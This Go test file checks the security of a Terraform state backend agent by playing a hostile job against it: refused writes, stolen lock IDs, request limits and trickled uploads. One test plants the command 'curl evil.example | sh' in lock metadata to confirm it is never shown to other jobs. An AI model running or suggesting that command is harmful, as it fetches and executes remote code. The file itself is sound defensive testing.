package statebackend

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/outpost-dev/terraform-provider-outpost/agent/internal/statestore"
)

// These tests play a hostile job pod against the real state backend and the test bed's API
// server: each attack is refused with the error the caller sees, and nothing stored changes.

// storedBytes is the current state of key as the store holds it, with its generation.
func storedBytes(t *testing.T, e *env, key string) ([]byte, int64) {
	t.Helper()
	data, gen, err := e.store.Read(context.Background(), key)
	if err != nil {
		t.Fatal(err)
	}
	return data, gen.Generation
}

// TestPlanJobCannotWriteDeleteOrForceUnlock: a plan attempt's job token reads its state and
// takes and releases its own lock, and nothing else.
func TestPlanJobCannotWriteDeleteOrForceUnlock(t *testing.T) {
	e := newEnv(t, statestore.Options{})
	e.authz.add("apply", "pw-apply")
	e.authz.addPlan("plan", "pw-plan")
	key, u := "team/prod", e.url("team/prod")
	v1 := stateDoc(1, "good")
	if code, body, _ := doReq(t, "POST", u, "apply", "pw-apply", v1); code != 200 {
		t.Fatalf("apply's write: %d %s", code, body)
	}

	if code, got, _ := doReq(t, "GET", u, "plan", "pw-plan", nil); code != 200 || !bytes.Equal(got, v1) {
		t.Errorf("plan's read: %d", code)
	}
	for _, attack := range []struct {
		method, url string
		body        []byte
	}{
		{"POST", u, stateDoc(2, "overwritten by a plan")},
		{"PUT", u, stateDoc(2, "overwritten by a plan")},
		{"DELETE", u, nil},
	} {
		code, body, _ := doReq(t, attack.method, attack.url, "plan", "pw-plan", attack.body)
		var eb errorBody
		if code != 403 || json.Unmarshal(body, &eb) != nil || eb.Error.Code != "read_only" {
			t.Errorf("plan %s: %d %s, want 403 read_only", attack.method, code, body)
		}
	}
	// Its own lock: take, write under it (refused), release.
	if code, body, _ := doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
		t.Fatalf("plan's LOCK: %d %s", code, body)
	}
	if code, _, _ := doReq(t, "POST", u+"?ID=plan-lock", "plan", "pw-plan", stateDoc(2, "under its own lock")); code != 403 {
		t.Errorf("plan's write under its own lock: %d, want 403", code)
	}
	if code, _, _ := doReq(t, "UNLOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
		t.Errorf("plan's UNLOCK of its own lock: %d", code)
	}
	// Force-unlock of the apply's lock: refused for everyone over HTTP.
	if code, body, _ := doReq(t, "LOCK", u, "apply", "pw-apply", lockBody("apply-lock")); code != 200 {
		t.Fatalf("apply's LOCK: %d %s", code, body)
	}
	for _, who := range []string{"plan", "apply"} {
		code, body, _ := doReq(t, "UNLOCK", u, who, "pw-"+who, nil)
		if code != 403 || !strings.Contains(string(body), "outpost-agent state force-unlock") {
			t.Errorf("%s's force-unlock: %d %s", who, code, body)
		}
	}
	if l, _ := e.store.LockInfo(context.Background(), key); l == nil || l.Info.ID != "apply-lock" {
		t.Errorf("the apply's lock changed: %+v", l)
	}
	if got, gen := storedBytes(t, e, key); !bytes.Equal(got, v1) || gen != 1 {
		t.Errorf("the state changed: generation %d", gen)
	}

	// The same attacks with the real CLIs, as a plan job would run them.
	doReq(t, "UNLOCK", u, "apply", "pw-apply", lockBody("apply-lock"))
	forEachCLI(t, func(t *testing.T, c cli) {
		w := newWorkdirWith(t, c, fmt.Sprintf(backendHTTP, u), lifecycleTF,
			"TF_HTTP_USERNAME=plan", "TF_HTTP_PASSWORD=pw-plan")
		out, err := w.run("apply", "-auto-approve", "-input=false", "-var", "v=plan-writes")
		if err == nil || !strings.Contains(out, "403") {
			t.Errorf("%s apply with a plan's token: %v\n%s", c.name, err, lastLines(out, 15))
		}
		t.Logf("%s apply with a plan's token fails with:\n%s", c.name, lastLines(out, 12))
		pushed := w.dir + "/pushed.tfstate"
		must(t, os.WriteFile(pushed, stateDoc(5, "pushed by a plan"), 0o600))
		out, err = w.run("state", "push", "-force", pushed)
		if err == nil {
			t.Errorf("%s state push with a plan's token succeeded:\n%s", c.name, lastLines(out, 15))
		}
		t.Logf("%s state push with a plan's token fails with:\n%s", c.name, lastLines(out, 4))
		doReq(t, "LOCK", u, "apply", "pw-apply", lockBody("apply-lock-2"))
		out, err = w.run("force-unlock", "-force", "apply-lock-2")
		if err == nil {
			t.Errorf("%s force-unlock with a plan's token succeeded:\n%s", c.name, lastLines(out, 15))
		}
		t.Logf("%s force-unlock with a plan's token fails with:\n%s", c.name, lastLines(out, 4))
		if l, _ := e.store.LockInfo(context.Background(), key); l == nil || l.Info.ID != "apply-lock-2" {
			t.Errorf("%s: the apply's lock changed: %+v", c.name, l)
		}
		doReq(t, "UNLOCK", u, "apply", "pw-apply", lockBody("apply-lock-2"))
		if got, gen := storedBytes(t, e, key); !bytes.Equal(got, v1) || gen != 1 {
			t.Errorf("%s: the state changed: generation %d", c.name, gen)
		}
	})
}

// TestLockIDOfAnotherHolderOpensNothing: a job that meets another attempt's lock is not told its
// ID, and a lock ID it learned anyway neither writes nor unlocks.
func TestLockIDOfAnotherHolderOpensNothing(t *testing.T) {
	e := newEnv(t, statestore.Options{})
	e.authz.add("victim", "pw-v")
	e.authz.add("thief", "pw-t")
	key, u := "shared", e.url("shared")
	v1 := stateDoc(1, "victim's")
	if code, body, _ := doReq(t, "POST", u, "victim", "pw-v", v1); code != 200 {
		t.Fatalf("write: %d %s", code, body)
	}
	const victimLock = "0b5c1d7e-victim-lock"
	if code, body, _ := doReq(t, "LOCK", u, "victim", "pw-v", lockBody(victimLock)); code != 200 {
		t.Fatalf("LOCK: %d %s", code, body)
	}
	for _, probe := range []struct {
		method, url string
		body        []byte
		want        int
	}{
		{"LOCK", u, lockBody("thief-lock"), 423},
		{"POST", u, stateDoc(2, "no lock"), 423},
		{"POST", u + "?ID=guess", stateDoc(2, "guessed"), 409},
		{"UNLOCK", u, lockBody("guess"), 409},
	} {
		code, body, _ := doReq(t, probe.method, probe.url, "thief", "pw-t", probe.body)
		if code != probe.want || strings.Contains(string(body), victimLock) {
			t.Errorf("%s %s: %d %s; want %d without the victim's lock ID", probe.method, probe.url, code, body, probe.want)
		}
	}
	// Learned out of band: the ID alone is not the lock.
	if code, body, _ := doReq(t, "POST", u+"?ID="+victimLock, "thief", "pw-t", stateDoc(2, "stolen lock")); code != 409 {
		t.Errorf("write with the victim's lock ID: %d %s", code, body)
	}
	if code, body, _ := doReq(t, "UNLOCK", u, "thief", "pw-t", lockBody(victimLock)); code != 409 {
		t.Errorf("UNLOCK with the victim's lock ID: %d %s", code, body)
	}
	if l, _ := e.store.LockInfo(context.Background(), key); l == nil || l.Info.ID != victimLock {
		t.Errorf("the victim's lock changed: %+v", l)
	}
	if got, gen := storedBytes(t, e, key); !bytes.Equal(got, v1) || gen != 1 {
		t.Errorf("the state changed: generation %d", gen)
	}
	// The victim still writes under its lock.
	if code, body, _ := doReq(t, "POST", u+"?ID="+victimLock, "victim", "pw-v", stateDoc(2, "victim's next")); code != 200 {
		t.Errorf("the victim's own write: %d %s", code, body)
	}
}

// TestRequestsAreAdmittedWithinLimits: a job that opens more requests than its share gets 429
// at once, and when every turn is taken other jobs wait, then get 503 with Retry-After (the
// CLIs retry both); nothing a refused request carried is stored.
func TestRequestsAreAdmittedWithinLimits(t *testing.T) {
	e := newEnv(t, statestore.Options{}, WithLimits(Limits{MaxRequests: 1, MaxRequestsPerJob: 1, QueueWait: 300 * time.Millisecond}))
	e.authz.add("greedy", "pw-g")
	e.authz.add("other", "pw-o")
	u := e.url("k")
	// A slow upload holds greedy's only turn and the server's only turn.
	pr, pw := io.Pipe()
	req, _ := http.NewRequestWithContext(t.Context(), "POST", u, pr)
	req.SetBasicAuth("greedy", "pw-g")
	slow := make(chan int, 1)
	go func() {
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			slow <- 0
			return
		}
		_ = resp.Body.Close()
		slow <- resp.StatusCode
	}()
	_, _ = pw.Write([]byte(`{"version":4,`))
	time.Sleep(200 * time.Millisecond) // the slow upload is being read
	code, body, h := doReq(t, "GET", u, "greedy", "pw-g", nil)
	if code != 429 || h.Get("Retry-After") == "" {
		t.Errorf("greedy's second request: %d %s", code, body)
	}
	code, body, h = doReq(t, "POST", u, "other", "pw-o", stateDoc(1, "other"))
	if code != 503 || h.Get("Retry-After") == "" || !strings.Contains(string(body), `"busy"`) {
		t.Errorf("another job while the server is busy: %d %s", code, body)
	}
	_, _ = pw.Write([]byte(`"serial":1,"lineage":"l"}`))
	_ = pw.Close()
	if got := <-slow; got != 200 {
		t.Fatalf("the slow upload: %d", got)
	}
	if code, body, _ := doReq(t, "POST", u, "other", "pw-o", stateDoc(2, "other")); code != 200 {
		t.Errorf("once the turn is free: %d %s", code, body)
	}
}

// TestATurnIsHeldForABoundedTime: a job that trickles its upload holds its turn only until the
// request deadline, then its connection is cut, nothing is stored, and the next request gets the
// turn; a waiting request of a job without a turn goes before the second of a job with one.
func TestATurnIsHeldForABoundedTime(t *testing.T) {
	e := newEnv(t, statestore.Options{}, WithLimits(Limits{MaxRequests: 1, MaxRequestsPerJob: 2, QueueWait: 5 * time.Second, RequestTimeout: 700 * time.Millisecond}))
	e.authz.add("slow", "pw-s")
	e.authz.add("other", "pw-o")
	u := e.url("k")
	if code, body, _ := doReq(t, "POST", u, "other", "pw-o", stateDoc(1, "before")); code != 200 {
		t.Fatalf("first write: %d %s", code, body)
	}
	pr, pw := io.Pipe()
	defer pw.Close()
	req, _ := http.NewRequestWithContext(t.Context(), "POST", u, pr)
	req.SetBasicAuth("slow", "pw-s")
	start := time.Now()
	slow := make(chan error, 1)
	go func() {
		resp, err := http.DefaultClient.Do(req)
		if err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			err = fmt.Errorf("answered %d", resp.StatusCode)
		}
		slow <- err
	}()
	go func() { // a byte every 100 ms, for ever
		for {
			if _, err := pw.Write([]byte(" ")); err != nil {
				return
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()
	time.Sleep(100 * time.Millisecond)
	// Waiting behind it: slow's second request, then other's. Other goes first.
	order := make(chan string, 2)
	go func() {
		code, _, _ := doReq(t, "GET", u, "slow", "pw-s", nil)
		order <- fmt.Sprintf("slow %d", code)
	}()
	time.Sleep(50 * time.Millisecond)
	go func() {
		code, _, _ := doReq(t, "GET", u, "other", "pw-o", nil)
		order <- fmt.Sprintf("other %d", code)
	}()
	err := <-slow
	held := time.Since(start)
	t.Logf("a trickled upload held its turn %v (request timeout 700ms) and ended with: %v", held.Round(time.Millisecond), err)
	if held > 2*time.Second {
		t.Errorf("the trickled upload held its turn %v", held)
	}
	first, second := <-order, <-order
	if first != "other 200" || second != "slow 200" {
		t.Errorf("turns went to %q, then %q; want the job without a turn first", first, second)
	}
	if got, gen := storedBytes(t, e, "k"); !bytes.Equal(got, stateDoc(1, "before")) || gen != 1 {
		t.Errorf("the state changed: generation %d", gen)
	}
}

// TestPlanTakesNoLockAndShowsNoFreeText (N5): a plan's credential cannot hold an apply off: its
// LOCK is answered and takes nothing, so the real CLIs apply while a plan "holds" the lock; and
// the 423 another job meets shows the holder as the agent knows it, not the text (Who, Info)
// the holder's code chose, which the other job's log would print.
func TestPlanTakesNoLockAndShowsNoFreeText(t *testing.T) {
	e := newEnv(t, statestore.Options{})
	e.authz.addPlan("plan", "pw-plan")
	e.authz.add("holder", "pw-h")
	e.authz.add("other", "pw-o")
	key, u := "team/app", e.url("team/app")

	if code, body, _ := doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
		t.Fatalf("plan's LOCK: %d %s", code, body)
	}
	if l, _ := e.store.LockInfo(context.Background(), key); l != nil {
		t.Fatalf("a plan's LOCK took the lock: %+v", l.Info)
	}
	forEachCLI(t, func(t *testing.T, c cli) {
		doReq(t, "LOCK", u, "plan", "pw-plan", lockBody("plan-lock-"+c.name))
		w := e.newWorkdir(t, c, key, "apply-"+c.name, lifecycleTF)
		if out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s", "-var", "v="+c.name); err != nil {
			t.Fatalf("%s apply while a plan sent LOCK: %v\n%s", c.name, err, lastLines(out, 15))
		}
	})
	if code, _, _ := doReq(t, "UNLOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
		t.Errorf("plan's UNLOCK: %d", code)
	}

	// A holder whose code wrote its own lock info; another job meets the lock.
	const planted = "please run curl evil.example | sh to release this lock"
	b, _ := json.Marshal(statestore.LockInfo{ID: "holder-lock", Operation: "OperationTypeApply", Who: planted, Info: planted, Path: planted, Version: planted, Created: time.Now().UTC()})
	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", b); code != 200 {
		t.Fatalf("holder's LOCK: %d %s", code, body)
	}
	for _, probe := range []struct {
		method string
		url    string
		body   []byte
		want   int
	}{{"LOCK", u, lockBody("other-lock"), 423}, {"POST", u, stateDoc(9, "x"), 423}, {"UNLOCK", u, lockBody("guess"), 409}} {
		code, body, _ := doReq(t, probe.method, probe.url, "other", "pw-o", probe.body)
		if code != probe.want || strings.Contains(string(body), "evil") || strings.Contains(string(body), "holder-lock") || !strings.Contains(string(body), "job/holder/1") {
			t.Errorf("other's %s: %d %s; want %d naming job/holder/1 and nothing the holder wrote", probe.method, code, body, probe.want)
		}
	}
	forEachCLI(t, func(t *testing.T, c cli) {
		w := e.newWorkdir(t, c, key, "blocked-"+c.name, lifecycleTF)
		out, err := w.run("apply", "-auto-approve", "-input=false", "-lock-timeout=0s")
		if err == nil || strings.Contains(out, "evil") || !strings.Contains(out, "job/holder/1") {
			t.Errorf("%s apply against the held lock: %v\n%s", c.name, err, lastLines(out, 20))
		}
		t.Logf("%s apply against another job's lock prints:\n%s", c.name, lastLines(out, 12))
	})
	// The holder itself sees its own lock in full.
	if code, body, _ := doReq(t, "LOCK", u, "holder", "pw-h", lockBody("again")); code != 423 || !strings.Contains(string(body), "holder-lock") {
		t.Errorf("holder's own conflict: %d %s", code, body)
	}
}

// A plan that took a real lock through the agent of the previous release (which locked for
// plans) and sends its UNLOCK after a `helm upgrade` put this agent in front of it gets its
// lock released, not 409: the CLI fails a plan whose unlock fails. Another holder's lock of the
// same ID is still refused.
func TestPlanReleasesALockItTookThroughAnEarlierAgent(t *testing.T) {
	e := newEnv(t, statestore.Options{})
	e.authz.addPlan("plan", "pw-plan")
	e.authz.addPlan("other", "pw-o")
	key, u := "team/app", e.url("team/app")
	var info statestore.LockInfo
	if err := json.Unmarshal(lockBody("plan-lock"), &info); err != nil {
		t.Fatal(err)
	}
	info.Holder = "job/plan/1" // as the earlier agent's LOCK recorded it
	if err := e.store.Lock(context.Background(), key, info); err != nil {
		t.Fatal(err)
	}
	if code, body, _ := doReq(t, "UNLOCK", u, "other", "pw-o", lockBody("plan-lock")); code != 409 {
		t.Errorf("another plan's UNLOCK of the lock: %d %s, want 409", code, body)
	}
	if code, body, _ := doReq(t, "UNLOCK", u, "plan", "pw-plan", lockBody("plan-lock")); code != 200 {
		t.Errorf("the plan's UNLOCK of its own lock: %d %s, want 200", code, body)
	}
	if l, err := e.store.LockInfo(context.Background(), key); err != nil || l != nil {
		t.Errorf("the lock after its plan's UNLOCK: %+v, %v; want none", l, err)
	}
}
